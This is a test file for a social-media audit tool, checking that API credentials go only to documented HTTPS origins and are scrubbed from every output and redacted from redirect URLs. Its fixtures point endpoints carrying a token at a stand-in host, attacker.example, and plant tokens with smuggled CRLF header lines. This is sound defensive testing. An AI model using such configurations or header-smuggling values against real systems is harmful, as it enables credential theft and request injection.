/**
 * The third hostile-input pass (issue 30), credentials and secrets: where a credential may be sent
 * (critical 2), every form of a token scrubbed from everything written or printed (critical 8), the
 * credentials of URLs a server hands over (major), a token with a line break and a 10 MB inventory
 * value (minor). Every token is planted in the environment and looked for, in every form and as a
 * 10-character piece, in every byte the run writes. Each test was seen failing before its fix.
 */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Secret } from '../src/auth/secret.js';
import { LiveHttpClient } from '../src/http/live.js';
import { FetchError } from '../src/http/types.js';
import { auditInventory, loadInventory, type Report } from '../src/index.js';
import { fbPosts } from './platforms/meta-graph/api-format.js';
import { xPage, xProblem, xUser } from './platforms/x/api-format.js';
import { serveApi, type ApiServer } from './helpers/api-server.js';
import { cli } from './helpers/cli.js';

const dir = mkdtempSync(join(tmpdir(), 'ca-h3-secrets-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function write(name: string, text: string): string {
  const file = join(dir, name);
  writeFileSync(file, text);
  return file;
}

/** Every file under a folder, recursively, as bytes. */
function filesUnder(root: string): Array<{ path: string; bytes: Buffer }> {
  return readdirSync(root).flatMap((name) => {
    const path = join(root, name);
    return statSync(path).isDirectory() ? filesUnder(path) : [{ path, bytes: readFileSync(path) }];
  });
}

/** A token in the forms a server echoes it in, and any 10 characters of it (what JSON.parse quotes). */
function tokenForms(token: string): string[] {
  const decoded = decodeURIComponent(token);
  const pieces = Array.from({ length: token.length - 9 }, (_, i) => token.slice(i, i + 10)).filter(
    (p) => !/^A+$/.test(p), // a run of A's (an X token's start) is in every base64 text
  );
  return [
    token,
    encodeURIComponent(token),
    decoded,
    ...[0, 1, 2].map((pad) =>
      Buffer.from(`${'x'.repeat(pad)}${decoded}`)
        .toString('base64')
        .slice(4, -4),
    ),
    ...pieces,
  ];
}

const found = (forms: string[], text: string | Buffer) => forms.filter((form) => text.includes(form));

describe('critical 2: credentials go only where the platform definition says', () => {
  let recorder: ApiServer;
  beforeAll(async () => {
    recorder = await serveApi(() => ({ body: '{"data":{"id":"1","username":"n","name":"n"}}' }));
  });
  afterAll(() => recorder.close());
  const GITHUB_TOKEN = 'ghp_CANARYgithub0000leak1111check2222zz';

  it.each([
    ['x', 'xApi', 'https://x.com/northwind', 'https://api.x.com'],
    ['youtube', 'youtubeApi', 'https://www.youtube.com/@northwind', 'https://www.googleapis.com'],
    ['facebook', 'graphApi', 'https://www.facebook.com/northwind', 'https://graph.facebook.com'],
    ['instagram', 'graphApi', 'https://www.instagram.com/northwind', 'https://graph.facebook.com'],
  ])(
    '%s: an endpoint on another origin with auth is an error at its line; validate and audit exit 2, nothing is sent',
    async (platform, setting, url, documented) => {
      const file = write(
        `elsewhere-${platform}.yaml`,
        `company: A\nsettings:\n  endpoints:\n    ${setting}: http://attacker.example/\n  auth:\n    ${platform}: {env: GITHUB_TOKEN}\nprofiles:\n  - url: ${url}\n`,
      );
      const env = { GITHUB_TOKEN };
      const validate = await cli(['validate', file], env);
      expect(validate.code).toBe(2);
      expect(validate.stdout).not.toContain('valid');
      expect(validate.stderr).toContain(`${file}:4:${7 + setting.length}: settings.endpoints.${setting}: the `);
      expect(validate.stderr).toContain(`would be read from http://attacker.example, but its credential GITHUB_TOKEN`);
      expect(validate.stderr).toContain(`is sent only to ${documented}`);
      // the same pair on a profile of its own
      const own = write(
        `elsewhere-own-${platform}.yaml`,
        `company: A\nprofiles:\n  - url: ${url}\n    endpoints: {${setting}: ${recorder.url}}\n    auth: {env: GITHUB_TOKEN}\n`,
      );
      const before = recorder.requests.length;
      const audit = await cli(['audit', own, '--as-of', '2026-11-01', '--format', 'json'], env);
      expect(audit.code).toBe(2);
      expect(audit.stderr).toContain(`${own}:4:${19 + setting.length}: profiles[0].endpoints.${setting}: the `);
      expect(recorder.requests.length).toBe(before);
      expect(found([GITHUB_TOKEN], audit.stderr + audit.stdout + validate.stderr)).toEqual([]);
    },
  );

  it('plain http never carries a credential: an http origin is an error at its line (loopback excepted)', async () => {
    const file = write(
      'http-origin.yaml',
      'company: A\nsettings:\n  endpoints: {xApi: http://attacker.example/2}\n  auth:\n    x: {env: GITHUB_TOKEN, origin: http://attacker.example}\nprofiles:\n  - url: https://x.com/northwind\n',
    );
    const run = await cli(['validate', file], { GITHUB_TOKEN });
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(
      `${file}:5:36: settings.auth.x.origin: expected https: a token is never sent over plain http`,
    );
  });

  it('validate prints the origin each credential is sent to, the documented one or the one auth names', async () => {
    const file = write(
      'origins.yaml',
      `company: A\nsettings:\n  endpoints: {xApi: ${recorder.url}/2}\n  auth:\n    x: {env: X_TOKEN, origin: ${recorder.url}}\n    youtube: {env: YT_KEY}\nprofiles:\n  - url: https://x.com/northwind\n  - url: https://www.youtube.com/@northwind\n`,
    );
    const run = await cli(['validate', file], { X_TOKEN: 'AAAAAAAAAAAAAAAAAAAAAxtoken', YT_KEY: 'AIzaSyEXAMPLE' });
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toMatch(
      /X_TOKEN {2}set {6}settings\.auth\.x \(1 profile\)\n\s+sent only to http:\/\/127\.0\.0\.1:\d+\n/,
    );
    expect(run.stdout).toMatch(
      /YT_KEY {3}set {6}settings\.auth\.youtube \(1 profile\)\n\s+sent only to https:\/\/www\.googleapis\.com\n/,
    );
  });

  it('an inventory built in code that points an API elsewhere: the profile is error and the recording server sees no request', async () => {
    const file = write(
      'library.yaml',
      `company: A\nprofiles:\n  - {url: "https://x.com/northwind", id: x}\n  - {url: "https://www.youtube.com/@northwind", id: yt}\n  - {url: "https://www.facebook.com/northwind", id: fb}\n`,
    );
    const inventory = await loadInventory(file);
    // what the YAML check refuses, built in code: every API at the recording server, every credential without an origin
    inventory.settings.endpoints = {
      ...inventory.settings.endpoints,
      xApi: recorder.url,
      youtubeApi: recorder.url,
      graphApi: recorder.url,
    };
    for (const p of ['x', 'youtube', 'facebook'] as const)
      inventory.settings.auth[p] = { env: 'GITHUB_TOKEN', budget: null, origin: null };
    const before = recorder.requests.length;
    const http = new LiveHttpClient({ userAgent: 't', timeoutMs: 5000, hostLimits: { concurrency: 1, intervalMs: 0 } });
    const report = await auditInventory(inventory, {
      http,
      asOf: new Date('2026-11-01'),
      env: { GITHUB_TOKEN },
      analyze: undefined,
    }).finally(() => http.close());
    expect(recorder.requests.length).toBe(before);
    for (const p of report.profiles) {
      expect(p.status, p.id).toBe('error');
      expect(p.statusReason).toMatch(/GITHUB_TOKEN is sent only to https:\/\/[a-z.]+, the .* documented origin/);
      expect(p.statusReason).toContain('the token was not sent');
    }
    expect(found([GITHUB_TOKEN], JSON.stringify(report))).toEqual([]);
  });

  it('the live client refuses a credential over plain http or to another origin, before anything is sent (not retried)', async () => {
    let connections = 0;
    const proxy = createServer(() => connections++);
    proxy.on('connect', () => connections++);
    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
    const port = (proxy.address() as AddressInfo).port;
    // every request of the client would go through this proxy: it counts any attempt
    const http = new LiveHttpClient({
      userAgent: 't',
      timeoutMs: 2000,
      env: { HTTP_PROXY: `http://127.0.0.1:${port}`, HTTPS_PROXY: `http://127.0.0.1:${port}` },
    });
    const credential = (origin: string, value = GITHUB_TOKEN) => ({
      name: 'GITHUB_TOKEN',
      header: 'authorization',
      prefix: 'Bearer ',
      secret: new Secret(value),
      origin,
    });
    try {
      for (const [url, origin, why] of [
        ['http://attacker.example/2/users', 'http://attacker.example', 'is not sent over plain http'],
        ['https://attacker.example/2/users', 'https://api.x.com', 'is sent only to https://api.x.com'],
      ] as const) {
        const error = await http.get(url, { credential: credential(origin) }).catch((e: unknown) => e);
        expect(error).toBeInstanceOf(FetchError);
        expect((error as FetchError).code).toBe('credential');
        expect((error as FetchError).message).toContain(why);
      }
      // minor: a token with a line break is a bad credential, not a connection failure retried
      const error = await http
        .get('https://api.x.com/2/users', { credential: credential('https://api.x.com', 'abc\r\nX-Injected: 1') })
        .catch((e: unknown) => e);
      expect((error as FetchError).code).toBe('credential');
      expect((error as FetchError).message).toContain('holds a line break');
      expect(connections).toBe(0);
    } finally {
      await http.close();
      await new Promise((resolve) => proxy.close(resolve));
    }
  });
});

describe('minor: a token with CR/LF is a bad credential; a 10 MB inventory value does not crash the token-shape check', () => {
  it('a token with a line break: the profile is error with a clear reason, no request, and validate says invalid', async () => {
    const api = await serveApi(() => ({ body: '{}' }));
    try {
      const file = write(
        'crlf.yaml',
        `company: A\nsettings:\n  hostIntervalMs: 0\n  endpoints: {xApi: ${api.url}}\n  auth: {x: {env: X_TOKEN, origin: ${api.url}}}\nprofiles:\n  - {url: "https://x.com/northwind", id: x}\n`,
      );
      const env = { X_TOKEN: 'AAAAAAAAAAAAAAAAAAAAAcrlf\r\nX-Injected: yes' };
      const run = await cli(
        ['audit', file, '--as-of', '2026-11-01', '--format', 'json', '--fail-on', 'never', '-q'],
        env,
      );
      const report = JSON.parse(run.stdout) as Report;
      expect(report.profiles[0]!.status).toBe('error');
      expect(report.profiles[0]!.statusReason).toContain(
        'X_TOKEN cannot be used: its value holds a line break, which no request header can carry',
      );
      expect(report.profiles[0]!.statusReason).not.toMatch(/connection|retr/);
      expect(api.requests).toHaveLength(0);
      const validate = await cli(['validate', file], env);
      expect(validate.stdout).toMatch(
        /X_TOKEN {2}invalid {2}settings\.auth\.x \(1 profile\): its value holds a line break/,
      );
    } finally {
      await api.close();
    }
  });

  it('a 10 MB value (a run of A, a Meta prefix, a Bearer prefix) does not crash the token-shape check, and a token at its start is still found', async () => {
    for (const value of ['A'.repeat(10_000_000), `EAA${'a'.repeat(10_000_000)}`, `Bearer ${'b'.repeat(10_000_000)}`]) {
      const file = write('huge.yaml', `company: "${value}"\nprofiles:\n  - url: https://mastodon.social/@n\n`);
      const started = performance.now();
      const run = await cli(['validate', file]);
      expect(run.stderr).not.toContain('call stack');
      expect(run.stderr).not.toContain('internal error');
      expect(run.code).toBe(2); // each has a token's shape at its start
      expect(run.stderr).toMatch(
        /huge\.yaml:1:10: company: this looks like (an X bearer token|a Meta access token|an Authorization header)/,
      );
      // parsing 10 MB of YAML takes seconds on a shared machine: the bound is for a hang, not for speed
      expect(performance.now() - started).toBeLessThan(20_000);
    }
  }, 90_000);
});

describe('critical 8: secrets are scrubbed by value in every form, from everything written or printed', () => {
  // an X bearer token holds %-escapes: echoed decoded, it is another string
  const BEARER = 'AAAAAAAAAAAAAAAAAAAAACANARYbearer%2Bx%3DHunter0000leak1111';
  const META = 'EAACANARYmeta0000leak1111check2222graph33';
  const ZW = '\u200b';
  const b64 = (s: string) => Buffer.from(s).toString('base64');
  const b64url = (s: string) => Buffer.from(s).toString('base64url');
  let xapi: ApiServer;
  let graph: ApiServer;
  let page: ApiServer;
  const seen: IncomingHttpHeaders[] = [];

  beforeAll(async () => {
    const plain = decodeURIComponent(BEARER);
    xapi = await serveApi((url) => {
      seen.push(xapi.requests.at(-1)!.headers);
      if (url.pathname === '/2/users/by/username/echo')
        return {
          status: 401,
          body: xProblem(401, 'Unauthorized', `Bearer token ${plain} is not valid (${encodeURIComponent(plain)})`),
        };
      if (url.pathname === '/2/users/by/username/broken')
        // not JSON: the token first, so JSON.parse would quote ten characters of it
        return { body: `${plain}${plain} <html>` };
      if (url.pathname === '/2/users/by/username/leaky')
        return {
          body: xUser({
            id: '7',
            username: 'leaky',
            name: `Leaky ${plain} ${[...plain].join(ZW)} ${b64(`Bearer ${plain}`)}`,
            created: '2015-01-01T00:00:00.000Z',
            followers: 3,
            tweets: 2,
          }),
        };
      if (url.pathname === '/2/users/7/tweets')
        return {
          body: xPage(
            [
              {
                id: '1850000000000000001',
                text: `echo ${plain} ${b64url(`x${plain}`)}`,
                created: '2026-10-29T12:00:00.000Z',
                authorId: '7',
              },
            ],
            [],
            null,
          ),
        };
      return undefined;
    });
    graph = await serveApi((url, origin) => {
      if (url.pathname === '/cursorpage')
        return { body: JSON.stringify({ id: '42', name: 'Cursor Page', username: 'cursorpage' }) };
      if (url.pathname === '/42/posts') {
        // the Page's next cursor is the token itself: a server that echoes it into paging
        const after = url.searchParams.get('after');
        if (!after)
          return {
            headers: { etag: '"page1"' },
            body: fbPosts(
              [{ id: '42_1', text: 'First', created: '2026-10-30T12:00:00Z', comments: [] }],
              META,
              `${origin}/42/posts?after=${META}`,
            ),
          };
        return {
          body: fbPosts(
            [{ id: '42_2', text: `Second (cursor ${after})`, created: '2026-10-20T12:00:00Z', comments: [] }],
            null,
            null,
          ),
        };
      }
      return undefined;
    });
    // a public page (an RSS feed) that echoes the tokens it was never sent
    page = await serveApi(() => ({
      type: 'application/rss+xml',
      headers: { etag: '"feed"' },
      body: `<?xml version="1.0"?><rss version="2.0"><channel><title>Blog ${[...META].join('\u2060')}</title><link>http://blog.example/</link>
<item><title>Post ${encodeURIComponent(META)}</title><link>http://blog.example/1?x=${b64(META)}</link><pubDate>Thu, 29 Oct 2026 12:00:00 GMT</pubDate><description>${plain} and ${[...BEARER].join('\u00ad')}</description></item>
</channel></rss>`,
    }));
  });
  afterAll(async () => {
    await Promise.all([xapi, graph, page].map((s) => s.close()));
  });

  it('raw, %-encoded and decoded, base64, zero-width split: in no report format, recording, cache, error or --verbose line; the Graph cursor recording replays', async () => {
    const inventory = write(
      'scrub.yaml',
      `company: Scrub check
settings:
  hostIntervalMs: 0
  endpoints: {graphApi: ${graph.url}, xApi: ${xapi.url}/2}
  auth:
    facebook: {env: META_TOKEN, origin: ${graph.url}}
    x: {env: X_TOKEN, origin: ${xapi.url}}
profiles:
  - {url: "https://x.com/leaky", id: x}
  - {url: "https://x.com/echo", id: x-echo}
  - {url: "https://x.com/broken", id: x-broken}
  - {url: "https://www.facebook.com/cursorpage", id: fb}
  - {url: "${page.url}/feed.xml", id: blog, platform: feed}
`,
    );
    const out = join(dir, 'scrub-out');
    mkdirSync(out);
    const formats = ['json', 'html', 'md', 'csv', 'ndjson', 'xml', 'txt'].map((e) => join(out, `report.${e}`));
    // a refused token's public page is read through a proxy that is not there: no test reaches x.com
    const env = { X_TOKEN: BEARER, META_TOKEN: META, HTTPS_PROXY: 'http://127.0.0.1:9' };
    const evidence = join(out, 'evidence');
    const run = await cli(
      [
        'audit',
        inventory,
        '--as-of',
        '2026-11-01',
        '--record',
        evidence,
        '--cache',
        join(out, 'cache'),
        '--verbose',
        '--fail-on',
        'never',
        ...formats.flatMap((file) => ['-o', file]),
      ],
      env,
    );
    expect(run.code, run.stderr).toBe(0);
    // the tokens went where they belong, and the echoes were met
    expect(seen.map((h) => h.authorization)).toEqual(seen.map(() => `Bearer ${BEARER}`));
    const report = JSON.parse(readFileSync(formats[0]!, 'utf8')) as Report;
    const byId = new Map(report.profiles.map((p) => [p.id, p]));
    expect(byId.get('x')!.api?.used).toBe(true);
    expect(byId.get('x-echo')!.api?.refused?.reason).toContain('Bearer token [secret] is not valid ([secret])');
    expect(byId.get('x-broken')!.status).toBe('error');
    expect(byId.get('fb')!.metrics!.postsAnalyzed).toBe(2);
    expect(byId.get('blog')!.status).toBe('active');
    // responses are scrubbed before any reader sees them: the cursor that was the token is asked for as
    // [secret], live as in a replay (and no reader can cut a token in half)
    expect(graph.requests.some((r) => r.url.includes('after=%5Bsecret%5D'))).toBe(true);

    const forms = [...tokenForms(BEARER), ...tokenForms(META)];
    const written = filesUnder(out);
    expect(written.some((file) => file.path.startsWith(join(out, 'cache')))).toBe(true);
    for (const file of written) {
      const text = file.bytes.toString('utf8').replace(/[\u00ad\u200b-\u200f\u2060-\u2064\ufeff]/g, '');
      expect(found(forms, text), file.path).toEqual([]);
    }
    const printed = (run.stdout + run.stderr).replace(/[\u00ad\u200b-\u200f\u2060-\u2064\ufeff]/g, '');
    expect(found(forms, printed)).toEqual([]);

    // replayed with no token at all: the Graph cursor that was the token is [secret] in the recording, and still found
    const replay = await cli([
      'audit',
      inventory,
      '--as-of',
      '2026-11-01',
      '--replay',
      evidence,
      '--format',
      'json',
      '--fail-on',
      'never',
      '-q',
    ]);
    const replayed = JSON.parse(replay.stdout) as Report;
    for (const p of replayed.profiles) {
      const live = byId.get(p.id)!;
      expect({ id: p.id, status: p.status, reason: p.statusReason, metrics: p.metrics }).toEqual({
        id: live.id,
        status: live.status,
        reason: live.statusReason,
        metrics: live.metrics,
      });
    }
  });
});

describe('major: credentials in URLs a server hands over are redacted from finalUrl, messages, --verbose and evidence', () => {
  it('a redirect to user:pass@ with signed query values, and a Link header with access_token', async () => {
    const SIG = 'SIGcanary0000sig';
    const AMZ = 'AMZcanary1111sig';
    const CRED = 'AKIAcanary2222cred';
    const ACCESS = 'ACCESScanary3333tok';
    const PASS = 'PASScanary4444pw';
    let origin = '';
    const server = createServer((req, res) => {
      const url = new URL(req.url ?? '/', origin);
      if (url.pathname === '/feed.xml') {
        const host = origin.replace('http://', '');
        res.writeHead(302, {
          location: `http://user:${PASS}@${host}/signed.xml?X-Amz-Signature=${AMZ}&x-amz-credential=${CRED}&sig=${SIG}&access_token=${ACCESS}`,
          link: `<${origin}/next?access_token=${ACCESS}>; rel="next"`,
        });
        res.end();
        return;
      }
      res.writeHead(500, { link: `<${origin}/next?sig=${SIG}&access_token=${ACCESS}>; rel="next"` });
      res.end('oops');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    try {
      const inventory = write(
        'signed.yaml',
        `company: A\nsettings:\n  hostIntervalMs: 0\n  allowPrivateRedirects: true\nprofiles:\n  - {url: "${origin}/feed.xml", id: blog, platform: feed}\n`,
      );
      const out = join(dir, 'signed-out');
      mkdirSync(out);
      const run = await cli([
        'audit',
        inventory,
        '--as-of',
        '2026-11-01',
        '--record',
        join(out, 'evidence'),
        '--verbose',
        '--format',
        'json',
        '--fail-on',
        'never',
      ]);
      const report = JSON.parse(run.stdout) as Report;
      const p = report.profiles[0]!;
      expect(p.status).toBe('error');
      expect(p.fetch.finalUrl).toContain('/signed.xml?X-Amz-Signature=REDACTED');
      expect(run.stderr).toContain('/signed.xml?X-Amz-Signature=REDACTED');
      const canaries = [SIG, AMZ, CRED, ACCESS, PASS];
      expect(found(canaries, run.stdout)).toEqual([]);
      expect(found(canaries, run.stderr)).toEqual([]);
      for (const file of filesUnder(out)) expect(found(canaries, file.bytes), file.path).toEqual([]);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });
});
